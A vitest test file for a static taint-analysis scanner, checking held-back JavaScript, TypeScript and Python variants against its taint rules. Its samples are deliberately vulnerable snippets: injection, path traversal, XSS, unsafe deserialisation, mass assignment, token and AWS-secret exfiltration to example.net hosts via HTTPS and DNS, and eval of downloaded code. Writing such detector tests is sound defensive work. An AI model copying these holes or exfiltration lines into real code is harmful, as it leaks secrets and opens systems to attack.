import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { parseRuleFile } from '../../../../src/core/rules/schema.js';
import { compileRule } from '../../../../src/core/scan/compile.js';
import { taintRuleMatches } from '../../../../src/core/semantics/taint/rules.js';

// Variants of each taint family, written before its rule and kept out of the rule's own tests.
// Each says whether the rule catches it today; a miss is written down as one, so a change in
// either direction shows here. The figure printed is the generalisation check.
const FILES = ['rules/taint-javascript.yml', 'rules/taint-python.yml'];
const rules = FILES.flatMap((f) => parseRuleFile(f, readFileSync(f, 'utf8')).map((s) => compileRule(s, f)));

interface Variant {
  lang: 'javascript' | 'typescript' | 'python';
  rule: string;
  code: string;
  caught: boolean;
}

const VARIANTS: Variant[] = [
  // Code injection.
  {
    lang: 'javascript',
    rule: 'js.taint.code-injection',
    caught: true,
    code: `const vm = require('node:vm');
app.post('/calc', (req, res) => {
  const { formula } = req.body;
  const out = vm.runInNewContext('(' + formula + ')', {});
  res.json(out);
});
`,
  },
  {
    lang: 'typescript',
    rule: 'js.taint.code-injection',
    caught: true,
    code: `export async function POST(request: Request) {
  const body = await request.json();
  const fn = new Function('x', \`return \${body.expr}\`);
  return Response.json(fn(1));
}
`,
  },
  {
    lang: 'python',
    rule: 'py.taint.code-injection',
    caught: true,
    code: `from flask import request
def calc():
    expr = request.form.get("e", "0")
    code = compile("result = %s" % expr, "<calc>", "exec")
    ns = {}
    exec(code, ns)
`,
  },
  // SQL injection.
  {
    lang: 'javascript',
    rule: 'js.taint.sql-injection',
    caught: true,
    code: `const { Pool } = require('pg');
const pool = new Pool();
function byName(name) {
  return "SELECT * FROM users WHERE name = '" + name + "'";
}
app.get('/u', async (req, res) => {
  const rows = await pool.query(byName(req.query.name));
  res.json(rows);
});
`,
  },
  {
    lang: 'python',
    rule: 'py.taint.sql-injection',
    caught: true,
    code: `from django.db import connection
def search(request):
    term = request.GET["q"]
    sql = "SELECT id FROM items WHERE title LIKE '%%{}%%'".format(term)
    with connection.cursor() as cur:
        cur.execute(sql)
`,
  },
  // NoSQL injection.
  {
    lang: 'javascript',
    rule: 'js.taint.nosql-injection',
    caught: true,
    code: `const { MongoClient } = require('mongodb');
app.post('/login', async (req, res) => {
  const users = client.db('app').collection('users');
  const filter = { user: req.body.user, pass: req.body.pass };
  const found = await users.findOne(filter);
});
`,
  },
  {
    lang: 'python',
    rule: 'py.taint.nosql-injection',
    caught: true,
    code: `from flask import request
def find():
    query = request.get_json()
    return list(db.users.find(query))
`,
  },
  // Template injection.
  {
    lang: 'javascript',
    rule: 'js.taint.template-injection',
    caught: true,
    code: `import { compile as compileView } from 'handlebars';
router.post('/preview', async (ctx) => {
  const tpl = ctx.request.body.template;
  ctx.body = compileView(tpl)({});
});
`,
  },
  {
    lang: 'python',
    rule: 'py.taint.template-injection',
    caught: true,
    code: `from jinja2 import Environment
from flask import request
env = Environment()
def preview():
    source = request.values["tpl"]
    return env.from_string(source).render()
`,
  },
  // Path traversal.
  {
    lang: 'javascript',
    rule: 'js.taint.path-traversal',
    caught: true,
    code: `import { promises as fsp } from 'fs';
import path from 'path';
app.get('/doc', async (req, res) => {
  const file = path.join(__dirname, 'docs', req.query.name);
  res.send(await fsp.readFile(file, 'utf8'));
});
`,
  },
  {
    lang: 'python',
    rule: 'py.taint.path-traversal',
    caught: true,
    code: `import os
from flask import request, send_file
UPLOADS = "/srv/uploads"
def download():
    name = request.args.get("f")
    return send_file(os.path.join(UPLOADS, name))
`,
  },
  // XSS.
  {
    lang: 'javascript',
    rule: 'js.taint.xss',
    caught: true,
    code: `app.get('/hello', (req, res) => {
  const who = req.query.name || 'world';
  res.write('<h1>Hello ' + who + '</h1>');
  res.end();
});
`,
  },
  {
    lang: 'python',
    rule: 'py.taint.xss',
    caught: true,
    code: `from django.http import HttpResponse
def hello(request):
    who = request.GET.get("name", "world")
    html = "<h1>Hello %s</h1>" % who
    return HttpResponse(html)
`,
  },
  // Open redirect.
  {
    lang: 'javascript',
    rule: 'js.taint.open-redirect',
    caught: true,
    code: `router.get('/out', async (ctx) => {
  const { next } = ctx.query;
  ctx.redirect(next);
});
`,
  },
  {
    lang: 'python',
    rule: 'py.taint.open-redirect',
    caught: true,
    code: `from django.shortcuts import redirect
def after_login(request):
    target = request.POST.get("next", "/")
    return redirect(target)
`,
  },
  // Deserialization.
  {
    lang: 'javascript',
    rule: 'js.taint.deserialization',
    caught: true,
    code: `const serialize = require('node-serialize');
app.get('/prefs', (req, res) => {
  const raw = Buffer.from(req.cookies.prefs, 'base64').toString();
  const prefs = serialize.unserialize(raw);
});
`,
  },
  {
    lang: 'python',
    rule: 'py.taint.deserialization',
    caught: true,
    code: `import pickle, base64
from flask import request
def restore():
    blob = base64.b64decode(request.cookies.get("state"))
    return pickle.loads(blob)
`,
  },
  // Exfiltration.
  {
    lang: 'javascript',
    rule: 'js.taint.exfiltration',
    caught: true,
    code: `const https = require('https');
const token = process.env.NPM_TOKEN;
const q = new URLSearchParams({ t: token }).toString();
https.get('https://collector.example.net/p?' + q);
`,
  },
  {
    lang: 'python',
    rule: 'py.taint.exfiltration',
    caught: true,
    code: `import os, socket
secret = os.getenv("AWS_SECRET_ACCESS_KEY", "")
label = secret.encode().hex()[:60]
socket.gethostbyname(label + ".t.example.net")
`,
  },
  // Execution of downloaded code.
  {
    lang: 'javascript',
    rule: 'js.taint.downloaded-code-execution',
    caught: true,
    code: `const axios = require('axios');
async function update() {
  const resp = await axios.get('https://cdn.example.net/patch.js');
  eval(resp.data);
}
`,
  },
  {
    lang: 'python',
    rule: 'py.taint.downloaded-code-execution',
    caught: true,
    code: `import urllib.request as ur
def update():
    body = ur.urlopen("https://cdn.example.net/patch.py").read().decode()
    exec(body)
`,
  },
  // Mass assignment.
  {
    lang: 'javascript',
    rule: 'js.taint.mass-assignment',
    caught: true,
    code: `app.put('/me', async (req, res) => {
  const user = await User.findById(req.user.id);
  const changes = req.body;
  Object.assign(user, changes);
  await user.save();
});
`,
  },
  {
    lang: 'javascript',
    rule: 'js.taint.mass-assignment',
    caught: true,
    code: `app.post('/signup', async (req, res) => {
  const account = await Account.create({ ...req.body, createdAt: Date.now() });
  res.json(account);
});
`,
  },
  // Written after the Python mass-assignment rule (not counted in the figure reported for the rest).
  {
    lang: 'python',
    rule: 'py.taint.mass-assignment',
    caught: true,
    code: `def update_profile(request):
    Profile.objects.filter(owner=request.user).update(**request.data)
`,
  },
  {
    lang: 'python',
    rule: 'py.taint.mass-assignment',
    // A model class called with the body: the class is the application's own, not a known sink.
    caught: false,
    code: `from flask import request
def signup():
    user = User(**request.get_json())
    db.session.add(user)
`,
  },
];

describe('held-back variants of the taint families', () => {
  it('catch exactly what is recorded', () => {
    const got = VARIANTS.map((v) => {
      const lines = v.code.split('\n').map((_, i) => i + 1);
      const { matches, gaveUp } = taintRuleMatches(rules, v.lang, v.code, lines);
      expect(gaveUp).toBeNull();
      return { rule: v.rule, caught: matches.some((m) => m.ruleId === v.rule) };
    });
    console.log(`held-back taint family variants caught: ${got.filter((g) => g.caught).length}/${got.length}`);
    expect(got).toEqual(VARIANTS.map((v) => ({ rule: v.rule, caught: v.caught })));
  });

  it('cover every family rule with at least one variant', () => {
    const covered = new Set(VARIANTS.map((v) => v.rule));
    const missing = rules.map((r) => r.meta.id).filter((id) => !covered.has(id) && !id.startsWith('js.taint.command') && !id.startsWith('py.taint.command') && !id.endsWith('.ssrf'));
    expect(missing).toEqual([]);
  });
});
